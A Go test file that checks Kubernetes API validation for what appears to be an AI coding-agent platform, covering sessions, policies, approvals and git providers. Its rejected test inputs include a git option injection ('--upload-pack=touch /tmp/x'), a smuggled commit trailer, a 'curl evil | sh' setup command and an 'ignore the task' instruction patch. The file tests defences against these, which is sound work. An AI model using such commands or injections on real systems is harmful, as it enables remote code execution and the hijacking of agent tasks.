package v1alpha1_test

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	v1 "github.com/agentry-dev/agentry/api/v1alpha1"
	"github.com/agentry-dev/agentry/test/controlplane"
)

var env *controlplane.Env

func TestMain(m *testing.M) {
	controlplane.Main(m, func(e *controlplane.Env) error { env = e; return nil })
}

func testContext(t *testing.T) context.Context {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	t.Cleanup(cancel)
	return ctx
}

func namespace(t *testing.T, ctx context.Context) string {
	t.Helper()
	ns, err := env.CreateNamespace(ctx, "api", nil)
	if err != nil {
		t.Fatal(err)
	}
	return ns
}

// fromYAML turns a manifest into an object as kubectl would send it: only the fields the
// user wrote, so the apiserver's defaults and validation see exactly that.
func fromYAML(t *testing.T, ns, manifest string) *unstructured.Unstructured {
	t.Helper()
	u := &unstructured.Unstructured{}
	if err := yaml.Unmarshal([]byte(manifest), &u.Object); err != nil {
		t.Fatalf("bad test manifest: %v\n%s", err, manifest)
	}
	u.SetNamespace(ns)
	return u
}

const sessionHeader = `
apiVersion: agentry.dev/v1alpha1
kind: AgentSession
metadata:
  name: bad
spec:
`

// validSpec is a known-good spec body; invalid cases change one thing in it.
const validSpec = `
  task: Make TestFoo deterministic.
  repository:
    url: https://git.example.com/org/repo.git
`

// TestInvalidSessionsRejected sends manifests a user could plausibly write wrong and checks
// that the real apiserver refuses each with a message that names the offending field, and
// that nothing was stored.
func TestInvalidSessionsRejected(t *testing.T) {
	ctx := testContext(t)
	ns := namespace(t, ctx)

	cases := map[string]struct {
		spec      string
		wantField string
		wantMsg   string
	}{
		"missing task": {
			spec:      "  repository: {url: https://git.example.com/org/repo.git}",
			wantField: "spec.task", wantMsg: "Required value",
		},
		"blank task": {
			spec:      "  task: '   '\n  repository: {url: https://git.example.com/org/repo.git}",
			wantField: "spec.task", wantMsg: "task must not be blank",
		},
		"missing repository": {
			spec:      "  task: do it",
			wantField: "spec.repository", wantMsg: "Required value",
		},
		"ftp repository url": {
			spec:      "  task: do it\n  repository: {url: 'ftp://git.example.com/repo.git'}",
			wantField: "spec.repository.url", wantMsg: "must be an https://",
		},
		"http url with credentials": {
			spec:      "  task: do it\n  repository: {url: 'http://bob:hunter2@git.example.com/repo.git'}",
			wantField: "spec.repository.url", wantMsg: "must not embed credentials",
		},
		"https url with token": {
			spec:      "  task: do it\n  repository: {url: 'https://ghp_abc123@git.example.com/repo.git'}",
			wantField: "spec.repository.url", wantMsg: "must not embed credentials",
		},
		"ref that looks like an option": {
			spec:      validSpec + "    ref: --upload-pack=touch /tmp/x",
			wantField: "spec.repository.ref", wantMsg: "must be a branch, tag or commit name",
		},
		"negative maxTurns": {
			spec:      validSpec + "  limits: {maxTurns: -1}",
			wantField: "spec.limits.maxTurns", wantMsg: "greater than or equal to 1",
		},
		"zero maxTokens": {
			spec:      validSpec + "  limits: {maxTokens: 0}",
			wantField: "spec.limits.maxTokens", wantMsg: "greater than or equal to 1",
		},
		"zero timeout": {
			spec:      validSpec + "  limits: {timeout: 0s}",
			wantField: "spec.limits.timeout", wantMsg: "timeout must be between 1m and 168h",
		},
		"timeout that is not a duration": {
			spec:      validSpec + "  limits: {timeout: soon}",
			wantField: "spec.limits.timeout", wantMsg: "",
		},
		"unknown tool": {
			spec:      validSpec + "  tools: [read_file, rm_rf]",
			wantField: "spec.tools[1]", wantMsg: "Unsupported value: \"rm_rf\"",
		},
		"duplicate tool": {
			spec:      validSpec + "  tools: [grep, grep]",
			wantField: "spec.tools[1]", wantMsg: "Duplicate value",
		},
		"no tools at all": {
			spec:      validSpec + "  tools: []",
			wantField: "spec.tools", wantMsg: "at least 1 items",
		},
		"unknown approval mode": {
			spec:      validSpec + "  approval: {bash: Maybe}",
			wantField: "spec.approval.bash", wantMsg: "Unsupported value: \"Maybe\"",
		},
		"onTimeout cannot be Ask": {
			spec:      validSpec + "  approval: {onTimeout: Ask}",
			wantField: "spec.approval.onTimeout", wantMsg: "Unsupported value: \"Ask\"",
		},
		"command both allowed and denied": {
			spec:      validSpec + "  approval: {allowCommands: ['make *'], denyCommands: ['make *']}",
			wantField: "spec.approval", wantMsg: "cannot be in both allowCommands and denyCommands",
		},
		"temperature above 2": {
			spec:      validSpec + "  model: {temperature: '3.5'}",
			wantField: "spec.model.temperature", wantMsg: "should match",
		},
		"zero maxOutputTokens": {
			spec:      validSpec + "  model: {maxOutputTokens: 0}",
			wantField: "spec.model.maxOutputTokens", wantMsg: "greater than or equal to 1",
		},
		"negative ttl": {
			spec:      validSpec + "  ttlSecondsAfterFinished: -5",
			wantField: "spec.ttlSecondsAfterFinished", wantMsg: "greater than or equal to 0",
		},
		"egress with host and cidr": {
			spec:      validSpec + "  network: {egress: [{host: github.com, cidr: 10.0.0.0/8}]}",
			wantField: "spec.network.egress[0]", wantMsg: "exactly one of host or cidr",
		},
		"egress with a bad cidr": {
			spec:      validSpec + "  network: {egress: [{cidr: 10.0.0.0/33}]}",
			wantField: "spec.network.egress[0].cidr", wantMsg: "must be a valid CIDR",
		},
		"egress port out of range": {
			spec:      validSpec + "  network: {egress: [{host: github.com, ports: [70000]}]}",
			wantField: "spec.network.egress[0].ports[0]", wantMsg: "less than or equal to 65535",
		},
		"approval for a call nobody asked about": {
			spec:      validSpec + "  approvals: [{id: ap-1, digest: 'sha256:00', decision: Allow, decidedBy: alice}]",
			wantField: "spec.approvals", wantMsg: "a new session cannot carry decisions",
		},
		"delivery with both push and pullRequest": {
			spec:      validSpec + "  delivery: {push: {}, pullRequest: {}}",
			wantField: "spec.delivery", wantMsg: "exactly one of push or pullRequest",
		},
		"delivery with neither push nor pullRequest": {
			spec:      validSpec + "  delivery: {gitProvider: github}",
			wantField: "spec.delivery", wantMsg: "exactly one of push or pullRequest",
		},
		"delivery branch that looks like an option": {
			spec:      validSpec + "  delivery: {push: {branch: '--force'}}",
			wantField: "spec.delivery.push.branch", wantMsg: "should match",
		},
		"delivery branch with dot-dot": {
			spec:      validSpec + "  delivery: {pullRequest: {branch: 'agentry/../main'}}",
			wantField: "spec.delivery.pullRequest.branch", wantMsg: "must be a valid git branch name",
		},
		"delivery base ending in .lock": {
			spec:      validSpec + "  delivery: {pullRequest: {base: 'main.lock'}}",
			wantField: "spec.delivery.pullRequest.base", wantMsg: "must be a valid git branch name",
		},
		"author name with a newline": {
			spec:      validSpec + "  delivery: {push: {}, author: {name: \"Eve\\nSigned-off-by: x\", email: e@example.com}}",
			wantField: "spec.delivery.author.name", wantMsg: "should match",
		},
		"author email without at": {
			spec:      validSpec + "  delivery: {push: {}, author: {name: Eve, email: eve}}",
			wantField: "spec.delivery.author.email", wantMsg: "should match",
		},
		"misspelt field": {
			spec:      validSpec + "  limit: {maxTurns: 5}",
			wantField: "spec.limit", wantMsg: "unknown field",
		},
	}
	if len(cases) < 15 {
		t.Fatalf("only %d cases", len(cases))
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			obj := fromYAML(t, ns, sessionHeader+tc.spec)
			obj.SetName("bad-" + strings.ReplaceAll(name, " ", "-"))
			err := env.Client.Create(ctx, obj, client.FieldValidation("Strict"))
			if err == nil {
				t.Fatalf("apiserver accepted an invalid session:\n%s", tc.spec)
			}
			if !apierrors.IsInvalid(err) && !apierrors.IsBadRequest(err) {
				t.Fatalf("error = %v, want an Invalid or BadRequest status", err)
			}
			msg := err.Error()
			if !strings.Contains(msg, tc.wantField) || !strings.Contains(msg, tc.wantMsg) {
				t.Fatalf("error does not name the field %q with %q:\n%s", tc.wantField, tc.wantMsg, msg)
			}
			got := &v1.AgentSession{}
			if err := env.Client.Get(ctx, client.ObjectKeyFromObject(obj), got); !apierrors.IsNotFound(err) {
				t.Fatalf("rejected session was stored anyway (get error %v)", err)
			}
		})
	}
}

// TestDefaultsOnMinimalManifest checks what a user who writes only a task and a repository
// gets back from the apiserver.
func TestDefaultsOnMinimalManifest(t *testing.T) {
	ctx := testContext(t)
	ns := namespace(t, ctx)
	obj := fromYAML(t, ns, strings.Replace(sessionHeader, "name: bad", "name: minimal", 1)+validSpec)
	if err := env.Client.Create(ctx, obj); err != nil {
		t.Fatal(err)
	}
	got := &v1.AgentSession{}
	if err := env.Client.Get(ctx, client.ObjectKeyFromObject(obj), got); err != nil {
		t.Fatal(err)
	}
	want := v1.AgentSessionSpec{
		Task:       "Make TestFoo deterministic.",
		Repository: v1.RepositorySpec{URL: "https://git.example.com/org/repo.git"},
		Model:      v1.ModelSpec{Provider: "default"},
		Tools:      v1.AllTools,
		Approval: v1.ApprovalPolicy{
			Bash: v1.ApprovalAsk, Writes: v1.ApprovalAllow, OnTimeout: v1.DecisionDeny,
			Timeout: &metav1.Duration{Duration: 10 * time.Minute},
		},
		Limits:                  v1.Limits{MaxTurns: 60, MaxTokens: 2000000, Timeout: &metav1.Duration{Duration: 30 * time.Minute}},
		TTLSecondsAfterFinished: ptr.To[int32](86400),
	}
	if diff := cmp.Diff(want, got.Spec); diff != "" {
		t.Fatalf("defaulted spec mismatch (-want +got):\n%s", diff)
	}
}

// TestUpdatesAfterCreation checks the rules that protect a running session: its
// instructions are frozen, cancel is one-way, and approvals answer real requests only.
func TestUpdatesAfterCreation(t *testing.T) {
	ctx := testContext(t)
	ns := namespace(t, ctx)

	create := func(t *testing.T, name string) *v1.AgentSession {
		t.Helper()
		obj := fromYAML(t, ns, strings.Replace(sessionHeader, "name: bad", "name: "+name, 1)+validSpec)
		if err := env.Client.Create(ctx, obj); err != nil {
			t.Fatal(err)
		}
		s := &v1.AgentSession{}
		if err := env.Client.Get(ctx, client.ObjectKeyFromObject(obj), s); err != nil {
			t.Fatal(err)
		}
		return s
	}
	expectRejected := func(t *testing.T, s *v1.AgentSession, field, msg string) {
		t.Helper()
		err := env.Client.Update(ctx, s)
		if err == nil {
			t.Fatalf("update accepted; want it refused on %s", field)
		}
		if !strings.Contains(err.Error(), field) || !strings.Contains(err.Error(), msg) {
			t.Fatalf("error does not name %s with %q:\n%v", field, msg, err)
		}
	}

	t.Run("task is immutable", func(t *testing.T) {
		s := create(t, "task-change")
		s.Spec.Task = "Delete all the tests instead."
		expectRejected(t, s, "spec.task", "task is immutable")
	})
	t.Run("repository is immutable", func(t *testing.T) {
		s := create(t, "repo-change")
		s.Spec.Repository.URL = "https://git.example.com/org/other.git"
		expectRejected(t, s, "spec.repository", "repository is immutable")
	})
	t.Run("limits are immutable", func(t *testing.T) {
		s := create(t, "limits-change")
		s.Spec.Limits.MaxTurns = 1000
		expectRejected(t, s, "spec.limits.maxTurns", "limits.maxTurns is immutable")
	})
	t.Run("cancel cannot be undone", func(t *testing.T) {
		s := create(t, "cancel-undo")
		s.Spec.Cancel = true
		if err := env.Client.Update(ctx, s); err != nil {
			t.Fatalf("setting cancel: %v", err)
		}
		s.Spec.Cancel = false
		expectRejected(t, s, "spec", "cancel cannot be undone")
	})
	t.Run("delivery cannot be added, changed or removed", func(t *testing.T) {
		s := create(t, "delivery-add")
		s.Spec.Delivery = &v1.DeliverySpec{Push: &v1.PushDelivery{}}
		expectRejected(t, s, "spec", "delivery is immutable")

		obj := fromYAML(t, ns, strings.Replace(sessionHeader, "name: bad", "name: delivery-set", 1)+validSpec+
			"  delivery: {pullRequest: {base: main}}")
		if err := env.Client.Create(ctx, obj); err != nil {
			t.Fatal(err)
		}
		set := &v1.AgentSession{}
		if err := env.Client.Get(ctx, client.ObjectKeyFromObject(obj), set); err != nil {
			t.Fatal(err)
		}
		changed := set.DeepCopy()
		changed.Spec.Delivery.PullRequest.Base = "release"
		expectRejected(t, changed, "spec.delivery", "delivery is immutable")
		set.Spec.Delivery = nil
		expectRejected(t, set, "spec", "delivery is immutable")
	})
	// A session created without a field (as kubectl sends it) cannot have it added by a
	// merge patch: a rule on the field alone does not run when the old object lacks it, and
	// narrowing the agent-phase egress reads spec.network after admission.
	t.Run("immutable fields cannot be added after creation", func(t *testing.T) {
		obj := fromYAML(t, ns, strings.Replace(sessionHeader, "name: bad", "name: add-later", 1)+validSpec)
		if err := env.Client.Create(ctx, obj); err != nil {
			t.Fatal(err)
		}
		for field, patch := range map[string]string{
			"network is immutable":      `{"spec":{"network":{"egress":[{"cidr":"0.0.0.0/0","ports":[443]}]}}}`,
			"setup is immutable":        `{"spec":{"setup":{"commands":["curl evil | sh"]}}}`,
			"mcpServers is immutable":   `{"spec":{"mcpServers":[{"name":"other"}]}}`,
			"instructions is immutable": `{"spec":{"instructions":"ignore the task"}}`,
		} {
			err := env.Client.Patch(ctx, obj.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(patch)))
			if err == nil || !strings.Contains(err.Error(), field) {
				t.Errorf("merge patch %s: %v, want it refused with %q", patch, err, field)
			}
		}
		got := &v1.AgentSession{}
		if err := env.Client.Get(ctx, client.ObjectKeyFromObject(obj), got); err != nil {
			t.Fatal(err)
		}
		if len(got.Spec.Network.Egress) != 0 || got.Spec.Setup != nil || got.Spec.Instructions != "" {
			t.Errorf("a refused patch changed the spec: %+v", got.Spec)
		}
		// A client that sends the whole object (with network: {}, as Go does) still may
		// change what is mutable.
		got.Spec.TTLSecondsAfterFinished = ptr.To[int32](120)
		if err := env.Client.Update(ctx, got); err != nil {
			t.Errorf("updating ttlSecondsAfterFinished with the whole object: %v", err)
		}
	})
	t.Run("ttl can change", func(t *testing.T) {
		s := create(t, "ttl-change")
		s.Spec.TTLSecondsAfterFinished = ptr.To[int32](60)
		if err := env.Client.Update(ctx, s); err != nil {
			t.Fatalf("changing ttlSecondsAfterFinished: %v", err)
		}
	})
	t.Run("approvals answer pending requests and stay decided", func(t *testing.T) {
		s := create(t, "approvals")
		const digest = "sha256:7777777777777777777777777777777777777777777777777777777777777777"
		s.Spec.Approvals = []v1.ApprovalDecision{{ID: "ap-7", Digest: digest, Decision: v1.DecisionAllow, DecidedBy: "alice"}}
		expectRejected(t, s.DeepCopy(), "spec.approvals", "must name the id and digest of an entry in status.pendingApprovals")

		s.Status.PendingApprovals = []v1.PendingApproval{{ID: "ap-7", Tool: "bash", Summary: "go test ./...", Digest: digest}}
		s.Spec.Approvals = nil
		if err := env.Client.Status().Update(ctx, s); err != nil {
			t.Fatalf("writing pending approval: %v", err)
		}
		// The same id with another action's digest is not a decision on this one.
		s.Spec.Approvals = []v1.ApprovalDecision{{ID: "ap-7", Digest: "sha256:other", Decision: v1.DecisionAllow, DecidedBy: "alice"}}
		expectRejected(t, s.DeepCopy(), "spec.approvals", "must name the id and digest of an entry in status.pendingApprovals")
		s.Spec.Approvals = []v1.ApprovalDecision{{ID: "ap-7", Digest: digest, Decision: v1.DecisionAllow, Reason: "tests are fine", DecidedBy: "alice"}}
		if err := env.Client.Update(ctx, s); err != nil {
			t.Fatalf("deciding a pending approval: %v", err)
		}

		// The runner got its answer; the gateway clears the request. The decision stays valid.
		s.Status.PendingApprovals = nil
		if err := env.Client.Status().Update(ctx, s); err != nil {
			t.Fatalf("clearing pending approval: %v", err)
		}
		s.Spec.TTLSecondsAfterFinished = ptr.To[int32](120)
		if err := env.Client.Update(ctx, s); err != nil {
			t.Fatalf("unrelated update after the request was cleared: %v", err)
		}

		// A decision cannot be re-pointed at another action or another person either.
		moved := s.DeepCopy()
		moved.Spec.Approvals[0].Digest = "sha256:another-action"
		expectRejected(t, moved, "spec.approvals", "cannot be changed or removed")
		moved = s.DeepCopy()
		moved.Spec.Approvals[0].DecidedBy = "mallory"
		expectRejected(t, moved, "spec.approvals", "cannot be changed or removed")
		s.Spec.Approvals[0].Decision = v1.DecisionDeny
		expectRejected(t, s, "spec.approvals", "cannot be changed or removed")
	})
}

const policyHeader = `
apiVersion: agentry.dev/v1alpha1
kind: AgentPolicy
metadata:
  name: bad
spec:
`

// TestInvalidPoliciesRejected checks that the apiserver refuses a policy's allow-lists and
// resource rules written wrong, naming the field, and that a correct one is stored.
func TestInvalidPoliciesRejected(t *testing.T) {
	ctx := testContext(t)
	ns := namespace(t, ctx)

	cases := map[string]struct {
		spec      string
		wantField string
		wantMsg   string
	}{
		"toleration with an unknown operator": {
			spec:      "  allowedTolerations: [{key: gpu, operator: Maybe}]",
			wantField: "spec.allowedTolerations[0].operator", wantMsg: `Unsupported value: "Maybe"`,
		},
		"toleration with an unknown effect": {
			spec:      "  allowedTolerations: [{key: gpu, operator: Exists, effect: NoRun}]",
			wantField: "spec.allowedTolerations[0].effect", wantMsg: `Unsupported value: "NoRun"`,
		},
		"Exists toleration with a value": {
			spec:      "  allowedTolerations: [{key: gpu, operator: Exists, value: a100}]",
			wantField: "spec.allowedTolerations[0]", wantMsg: "value must be empty when operator is Exists",
		},
		"Equal toleration without a key": {
			spec:      "  allowedTolerations: [{value: a100}]",
			wantField: "spec.allowedTolerations[0]", wantMsg: "key is required when operator is Equal",
		},
		"node selector key with no values": {
			spec:      "  allowedNodeSelectors: {pool: []}",
			wantField: "spec.allowedNodeSelectors.pool", wantMsg: "at least 1 items",
		},
		"resource maximum that is not a quantity": {
			spec:      "  agentResources: {max: {memory: lots}}",
			wantField: "spec.agentResources.max.memory", wantMsg: "",
		},
		"notification target with both webhook and slack": {
			spec:      "  notifications: [{name: team, webhook: {url: 'https://hooks.example.com/x'}, slack: {webhookURLSecretRef: {name: s, key: url}}}]",
			wantField: "spec.notifications[0]", wantMsg: "exactly one of webhook or slack",
		},
		"notification webhook with credentials in the url": {
			spec:      "  notifications: [{name: team, webhook: {url: 'https://u:p@hooks.example.com/x'}}]",
			wantField: "spec.notifications[0].webhook.url", wantMsg: "without credentials",
		},
		"notification for an unknown event": {
			spec:      "  notifications: [{name: team, events: [Started], webhook: {url: 'https://hooks.example.com/x'}}]",
			wantField: "spec.notifications[0].events[0]", wantMsg: `Unsupported value: "Started"`,
		},
		"slack target without a key": {
			spec:      "  notifications: [{name: team, slack: {webhookURLSecretRef: {name: s}}}]",
			wantField: "spec.notifications[0].slack.webhookURLSecretRef.key", wantMsg: "Required value",
		},
		"volume size that is not a quantity": {
			spec:      "  volumeSizeLimits: {workspace: huge}",
			wantField: "spec.volumeSizeLimits.workspace", wantMsg: "",
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			obj := fromYAML(t, ns, policyHeader+tc.spec)
			obj.SetName("bad-" + strings.ToLower(strings.ReplaceAll(name, " ", "-")))
			err := env.Client.Create(ctx, obj, client.FieldValidation("Strict"))
			if err == nil {
				t.Fatalf("apiserver accepted an invalid policy:\n%s", tc.spec)
			}
			msg := err.Error()
			if !strings.Contains(msg, tc.wantField) || !strings.Contains(msg, tc.wantMsg) {
				t.Fatalf("error does not name the field %q with %q:\n%s", tc.wantField, tc.wantMsg, msg)
			}
		})
	}

	good := fromYAML(t, ns, policyHeader+`  allowedImages: [registry.example/team]
  allowedNodeSelectors: {pool: [agents]}
  allowedTolerations: [{key: agents, operator: Exists, effect: NoSchedule}, {key: pool, value: agents}]
  agentResources:
    default: {requests: {cpu: 500m, memory: 1Gi}, limits: {memory: 4Gi}}
    max: {cpu: "4", memory: 16Gi}
  volumeSizeLimits: {workspace: 20Gi, home: 1Gi, tmp: 2Gi}
`)
	good.SetName("good")
	if err := env.Client.Create(ctx, good, client.FieldValidation("Strict")); err != nil {
		t.Fatalf("a valid policy was refused: %v", err)
	}
	got := &v1.AgentPolicy{}
	if err := env.Client.Get(ctx, client.ObjectKeyFromObject(good), got); err != nil {
		t.Fatal(err)
	}
	if got.Spec.AllowedTolerations[1].Operator != "Equal" {
		t.Errorf("operator default = %q, want Equal", got.Spec.AllowedTolerations[1].Operator)
	}
}

// TestInvalidGitProvidersRejected checks the GitProvider rules a platform admin could trip on.
func TestInvalidGitProvidersRejected(t *testing.T) {
	ctx := testContext(t)
	cases := map[string]struct {
		spec      string
		wantField string
		wantMsg   string
	}{
		"plain http without allowPlainHTTP": {
			spec:      "  type: Gitea\n  url: http://gitea.example.com\n  secretRef: {name: s}",
			wantField: "spec", wantMsg: "url must be https:// unless allowPlainHTTP is true",
		},
		"url with a path": {
			spec:      "  type: GitHub\n  url: https://github.com/acme\n  secretRef: {name: s}",
			wantField: "spec.url", wantMsg: "without credentials or path",
		},
		"ssh url on a GitHub provider": {
			spec:      "  type: GitHub\n  url: ssh://github.com\n  secretRef: {name: s}",
			wantField: "spec", wantMsg: "an ssh:// url is only for type Git",
		},
		"url with credentials": {
			spec:      "  type: Git\n  url: https://bob:pw@git.example.com\n  secretRef: {name: s}",
			wantField: "spec.url", wantMsg: "without credentials or path",
		},
		"github app on a Gitea provider": {
			spec:      "  type: Gitea\n  url: https://gitea.example.com\n  secretRef: {name: s}\n  githubApp: {appID: 1}",
			wantField: "spec", wantMsg: "githubApp is only for type GitHub",
		},
		"unknown type": {
			spec:      "  type: Bitbucket\n  url: https://bitbucket.org\n  secretRef: {name: s}",
			wantField: "spec.type", wantMsg: `Unsupported value: "Bitbucket"`,
		},
		"no secret": {
			spec:      "  type: GitHub\n  url: https://github.com",
			wantField: "spec.secretRef", wantMsg: "Required value",
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			obj := fromYAML(t, "", "apiVersion: agentry.dev/v1alpha1\nkind: GitProvider\nmetadata:\n  name: bad\nspec:\n"+tc.spec)
			obj.SetName("bad-" + strings.ToLower(strings.ReplaceAll(name, " ", "-")))
			err := env.Client.Create(ctx, obj, client.FieldValidation("Strict"))
			if err == nil {
				t.Fatalf("apiserver accepted an invalid GitProvider:\n%s", tc.spec)
			}
			if !strings.Contains(err.Error(), tc.wantField) || !strings.Contains(err.Error(), tc.wantMsg) {
				t.Fatalf("error does not name the field %q with %q:\n%v", tc.wantField, tc.wantMsg, err)
			}
			list := &v1.GitProviderList{}
			if err := env.Client.List(ctx, list); err != nil {
				t.Fatal(err)
			}
			for _, p := range list.Items {
				if p.Name == obj.GetName() {
					t.Fatalf("the invalid GitProvider was stored")
				}
			}
		})
	}
	good := fromYAML(t, "", "apiVersion: agentry.dev/v1alpha1\nkind: GitProvider\nmetadata:\n  name: dev-gitea\nspec:\n"+
		"  type: Gitea\n  url: http://gitea.agentry.test:3000\n  allowPlainHTTP: true\n  secretRef: {name: gitea-token}")
	if err := env.Client.Create(ctx, good, client.FieldValidation("Strict")); err != nil {
		t.Fatalf("a valid GitProvider was refused: %v", err)
	}
}
